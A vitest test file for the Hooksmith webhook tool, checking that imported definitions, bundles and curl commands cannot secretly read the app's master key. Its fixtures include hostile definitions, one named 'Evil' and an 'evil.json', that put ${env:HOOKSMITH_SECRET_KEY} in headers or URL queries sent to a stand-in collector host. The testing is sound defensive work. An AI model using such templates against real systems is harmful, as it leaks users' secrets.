/**
 * An imported file cannot reach a variable the user was not shown: every import (definition files, bundles,
 * curl; API and CLI) lists each variable each webhook reads and where it goes, a dry run saves nothing, and
 * Hooksmith's own variables are never read from a definition (refused on import, never resolved on send).
 */
import { readFile, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { createBackend, type Backend } from '../../electron/services/backend';
import { MemorySecretStore } from '../../electron/services/secrets/secret-store';
import { DATA_FILE_NAME } from '../../electron/services/storage/data-file';
import { BUNDLE_KIND, BUNDLE_VERSION } from '../../shared/history/bundle';
import { cliIn } from '../support/cli-in';
import { tempDir } from '../support/temp-dir';
import { webhookInput } from '../support/webhook-fixtures';

const open: Array<{ b: Backend; cleanup: () => Promise<void> }> = [];
afterEach(async () => {
  for (const o of open.splice(0)) {
    o.b.history.store.close();
    await o.cleanup();
  }
});

async function fresh(env: Record<string, string> = {}): Promise<{ b: Backend; dir: string }> {
  const dir = await tempDir();
  const b = await createBackend({ dataDir: join(dir.path, 'data'), secrets: new MemorySecretStore(), mode: 'web', version: 'test', env });
  open.push({ b, cleanup: dir.cleanup });
  return { b, dir: dir.path };
}

const definition = (over: Record<string, unknown>) => JSON.stringify({ schemaVersion: 1, name: 'Evil', method: 'POST', url: 'https://collect.example.net/in', bodyTemplate: '{}', triggers: ['RequestCreated'], ...over });

const bundleText = (name: string, headers: unknown[]) =>
  JSON.stringify({
    kind: BUNDLE_KIND,
    bundleVersion: BUNDLE_VERSION,
    exportedAt: new Date().toISOString(),
    originalId: 'o1',
    webhook: webhookInput({ name, url: 'https://collect.example.net/in', headers: headers as never }),
    trigger: 'RequestCreated',
    event: {},
    renderedBody: '{}',
    request: null,
    response: null,
    steps: [],
    outcome: 'Failure',
    error: null,
    warnings: [],
    startedAt: new Date().toISOString(),
    durationMs: 1,
  });

describe('imports and environment variables', () => {
  it('a definition file naming HOOKSMITH_SECRET_KEY is refused, naming the field, and nothing is saved', async () => {
    const { b, dir } = await fresh({ HOOKSMITH_SECRET_KEY: 'master-key-0123456789' });
    const before = await readFile(join(dir, 'data', DATA_FILE_NAME), 'utf8').catch(() => '');
    const r = await b.api.webhooks.importDefinitions({ text: definition({ headers: [{ key: 'X-Key', value: '${env:HOOKSMITH_SECRET_KEY}', secret: true }] }) });
    expect(r.ok).toBe(false);
    if (r.ok) return;
    expect(r.error.code).toBe('validation-failed');
    expect(r.error.issues?.find((i) => i.field.endsWith('headers.0.value'))?.message).toContain('HOOKSMITH_SECRET_KEY');
    expect(r.error.message + JSON.stringify(r.error.issues)).not.toContain('master-key');
    expect(await readFile(join(dir, 'data', DATA_FILE_NAME), 'utf8').catch(() => '')).toBe(before);
    const listed = await b.api.webhooks.list();
    expect(listed.ok && listed.value).toEqual([]);
  });

  it('a bundle whose export name would make the placeholder HOOKSMITH_SECRET_KEY is refused', async () => {
    const { b } = await fresh();
    // An export of a webhook named "Secret" with a "Key" header writes ${env:HOOKSMITH_SECRET_KEY}: the one name a bundle keeps.
    const r = await b.api.history.importBundle({ text: bundleText('Secret', [{ key: 'Key', value: '${env:HOOKSMITH_SECRET_KEY}', secret: true }]) });
    expect(r).toMatchObject({ ok: false, error: { code: 'validation-failed', field: 'headers.0.value' } });
    const listed = await b.api.webhooks.list();
    expect(listed.ok && listed.value).toEqual([]);
  });

  it('an import lists each variable each webhook reads and its origin; a dry run saves nothing', async () => {
    const { b } = await fresh();
    const text = bundleText('Hook', [{ key: 'X-Api-Key', value: '${env:HOOKSMITH_HOOK_X_API_KEY}', secret: true }]);
    const dry = await b.api.history.importBundle({ text, dryRun: true });
    if (!dry.ok) throw new Error(dry.error.message);
    expect(dry.value).toMatchObject({ saved: false, envReads: [{ variable: 'HOOKSMITH_HOOK_X_API_KEY', field: 'headers.0.value', origin: 'https://collect.example.net' }] });
    expect(dry.value.webhook.id).toBe('');
    const none = await b.api.webhooks.list();
    expect(none.ok && none.value).toEqual([]);
    const real = await b.api.history.importBundle({ text });
    if (!real.ok) throw new Error(real.error.message);
    expect(real.value.saved).toBe(true);
    expect(real.value.envReads).toEqual(dry.value.envReads);

    const curl = await b.api.history.importBundle({ text: "curl https://api.example.org/v1/hook -H 'Authorization: Bearer ${env:MY_TOKEN}' -d '{}'", dryRun: true });
    if (!curl.ok) throw new Error(curl.error.message);
    expect(curl.value.envReads).toEqual([{ variable: 'MY_TOKEN', field: 'auth.token', origin: 'https://api.example.org' }]);

    const defs = await b.api.webhooks.importDefinitions({ text: definition({ name: 'Defs', auth: { type: 'bearer', token: '${env:DEFS_TOKEN}' } }) });
    if (!defs.ok) throw new Error(defs.error.message);
    expect(defs.value.envReads).toEqual([{ webhook: 'Defs', reads: [{ variable: 'DEFS_TOKEN', field: 'auth.token', origin: 'https://collect.example.net' }] }]);
  });

  it('the CLI says what each import reads and where it goes', async () => {
    const dir = await tempDir();
    try {
      await writeFile(join(dir.path, 'hooks.json'), definition({ name: 'Cli', headers: [{ key: 'X-Key', value: '${env:CLI_KEY}', secret: true }] }));
      const imp = await cliIn(dir.path, ['webhooks', 'import', 'hooks.json']);
      expect(imp.code).toBe(0);
      expect(imp.err).toContain('Cli reads from the environment: CLI_KEY (headers.0.value) → https://collect.example.net.');
      await writeFile(join(dir.path, 'b.json'), bundleText('Other', [{ key: 'X-Api-Key', value: '${env:HOOKSMITH_OTHER_X_API_KEY}', secret: true }]));
      const bundle = await cliIn(dir.path, ['import', 'b.json']);
      expect(bundle.code).toBe(0);
      expect(bundle.err).toContain('Other reads from the environment: HOOKSMITH_OTHER_X_API_KEY (headers.0.value) → https://collect.example.net.');
      // A file that cannot be read is an error message naming it, not a crash.
      const missing = await cliIn(dir.path, ['webhooks', 'import', 'missing.json']);
      expect(missing.code).toBe(2);
      expect(missing.err).toMatch(/^missing\.json: .*ENOENT/);
      await writeFile(join(dir.path, 'evil.json'), definition({ url: 'https://collect.example.net/?k=${env:HOOKSMITH_SECRET_KEY}' }));
      const evil = await cliIn(dir.path, ['webhooks', 'import', 'evil.json'], { HOOKSMITH_SECRET_KEY: 'k'.repeat(32) });
      expect(evil.code).not.toBe(0);
      expect(evil.err).toContain('HOOKSMITH_SECRET_KEY');
    } finally {
      await dir.cleanup();
    }
  });
});
